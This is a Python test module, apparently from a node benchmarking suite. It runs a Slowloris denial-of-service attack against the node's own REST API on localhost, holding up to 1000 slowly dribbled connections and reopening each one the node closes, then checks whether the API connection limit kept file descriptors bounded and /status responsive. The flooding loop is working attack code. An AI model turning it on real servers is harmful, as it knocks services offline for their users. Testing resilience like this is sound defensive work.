"""Slowloris that keeps its connections: ``CONNS`` API connections from the attacker's address,
each sending its request header one byte every ``DRIP_S``, reopened as soon as the node closes
one (at most ``REOPEN_PER_S``), for ``--duration``.

The header timeout closes each connection after ``api_header_timeout_s`` (10 s), but an
attacker that reopens them holds as many as it likes at every moment: before the API had a
connection limit the node held all of them — a file descriptor (shared with the P2P side, one
process limit) and a parser's state each. ``slowloris`` (200 connections, opened once) shows the
header timeout; this one the limit.

Defended: the node's file descriptors never grew by more than ``API_MAX`` (the node's
``api_max_connections`` default) plus ``SLACK`` (accepted, not yet evicted; P2P churn) over
what it held before, the limit was reached (more than that opened, and the node closed some of
ours), and ``/status`` from an honest client (another address) answered every time. The node's
ESTABLISHED sockets from us (sock_diag) are a figure, not the bound: they count connections
still in the accept backlog, which hold no descriptor. Not defended on the growth or a failed
``/status``. Inconclusive (an error) without pressure (the node never closed one of ours, or
we never opened past the bound) or when the node's descriptors were never read. ``--quick``
opens ``QUICK_CONNS`` for ``--duration`` and is judged the same way.
"""

from __future__ import annotations

import contextlib
import errno
import os
import socket
import time

from netdiag.bench.attack.base import AttackContext, Figure, Outcome
from netdiag.bench.attack.cluster import http_json
from netdiag.errors import NetdiagError
from netdiag.measure import sockdiag

CONNS = 1000
QUICK_CONNS = 150  # past the limit too
API_MAX = 64  # the node's api_max_connections default (docs/node.md, REST API)
SLACK = 8
DRIP_S = 2.0
REOPEN_PER_S = 200.0
SAMPLE_S = 0.5
HEADER = b"GET /status HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4096


def node_conns(port: int, ip: str) -> int | None:
    """The node's established API sockets to ``ip`` (sock_diag); None when it does not answer."""
    try:
        conns = sockdiag.snapshot(ports=[port])
    except (OSError, NetdiagError):
        return None
    return sum(1 for c in conns if c.lport == port and c.raddr == ip and c.state == "ESTABLISHED")


def fds(pid: int | None) -> int | None:
    if pid is None:
        return None
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


class ApiSlowloris:
    name = "api_slowloris"
    summary = "API connections dribbling a header, reopened when closed: held to the limit"
    rss_bound: float | None = 1.25
    growth_bound: float | None = 0.9

    def run(self, ctx: AttackContext) -> Outcome:
        node = ctx.cluster.nodes[ctx.target_index]
        port = node.api_port
        pid = node.proc.pid if node.proc is not None else None
        n = QUICK_CONNS if ctx.quick else CONNS
        fds_before = fds(pid)
        socks: dict[socket.socket, int] = {}  # -> bytes of the header sent
        opened = closed_by_node = connect_failed = 0
        peak: int | None = None
        fds_peak = fds_before
        status_ok = status_failed = 0
        status_worst = 0.0
        start = time.monotonic()
        end = start + ctx.duration_s
        next_drip = next_sample = start
        budget = 0.0
        last = start
        try:
            while (now := time.monotonic()) < end:
                budget = min(REOPEN_PER_S, budget + (now - last) * REOPEN_PER_S)
                last = now
                while len(socks) < n and budget >= 1:
                    budget -= 1
                    s = socket.socket()
                    s.setblocking(False)
                    try:
                        s.bind((ctx.source_ip, 0))
                        s.connect_ex(("127.0.0.1", port))
                    except OSError:
                        s.close()
                        connect_failed += 1
                        continue
                    socks[s] = 0
                    opened += 1
                if now >= next_drip:
                    next_drip = now + DRIP_S
                    for s, sent in list(socks.items()):
                        try:
                            if s.recv(1, socket.MSG_PEEK) == b"":
                                raise ConnectionResetError
                        except BlockingIOError:
                            pass
                        except OSError as e:
                            if e.errno == errno.ENOTCONN:
                                continue  # still connecting
                            closed_by_node += 1
                            del socks[s]
                            s.close()
                            continue
                        with contextlib.suppress(BlockingIOError, OSError):
                            socks[s] = sent + s.send(HEADER[sent : sent + 1] or b"a")
                if now >= next_sample:
                    next_sample = now + SAMPLE_S
                    held = node_conns(port, ctx.source_ip)
                    if held is not None:
                        peak = max(peak or 0, held)
                    f = fds(pid)
                    if f is not None:
                        fds_peak = max(fds_peak or 0, f)
                    t0 = time.monotonic()
                    ok = http_json(port, "/status", timeout_s=2.0) is not None
                    status_worst = max(status_worst, time.monotonic() - t0)
                    status_ok += ok
                    status_failed += not ok
                    ctx.progress(
                        f"{len(socks)} open, node holds {held} for us (peak {peak}), "
                        f"{closed_by_node} closed by the node, /status ok {status_ok}"
                    )
                time.sleep(0.01)
        finally:
            for s in socks:
                s.close()
        return assess(
            n, opened, closed_by_node, connect_failed, peak, fds_before, fds_peak,
            status_ok, status_failed, status_worst,
        )  # fmt: skip


def assess(
    n: int,
    opened: int,
    closed_by_node: int,
    connect_failed: int,
    peak: int | None,
    fds_before: int | None,
    fds_peak: int | None,
    status_ok: int,
    status_failed: int,
    status_worst: float,
) -> Outcome:
    bound = API_MAX + SLACK
    grew = None if fds_before is None or fds_peak is None else fds_peak - fds_before
    figures: dict[str, Figure] = {
        "connections_kept": n,
        "opened": opened,
        "closed_by_node": closed_by_node,
        "connect_failed": connect_failed,
        "node_held_peak": peak,
        "node_fds_before": fds_before,
        "node_fds_peak": fds_peak,
        "node_fds_grew": grew,
        "status_ok": status_ok,
        "status_failed": status_failed,
        "status_worst_ms": round(status_worst * 1000, 1),
    }
    why = (
        f"{opened} slow connections opened ({n} kept open), {closed_by_node} closed by the node; "
        f"its fds {fds_before} -> peak {fds_peak} (bound +{API_MAX} + {SLACK}), ESTABLISHED "
        f"from us at most {peak}; /status answered {status_ok}/{status_ok + status_failed}"
    )
    fails = []
    if grew is not None and grew > bound:
        fails.append(f"the node's fds grew by {grew}")
    if status_failed:
        fails.append(f"/status failed {status_failed} times")
    if fails:
        return Outcome(defended=False, why="; ".join(fails) + f" — {why}", figures=figures)
    if grew is None:
        return Outcome(error=f"the node's fds were never read: {why}", figures=figures)
    if opened <= bound or closed_by_node == 0:
        return Outcome(
            error=f"no pressure: the limit was never shown reached ({why})", figures=figures
        )
    return Outcome(defended=True, why=why, figures=figures)


ATTACK = ApiSlowloris()
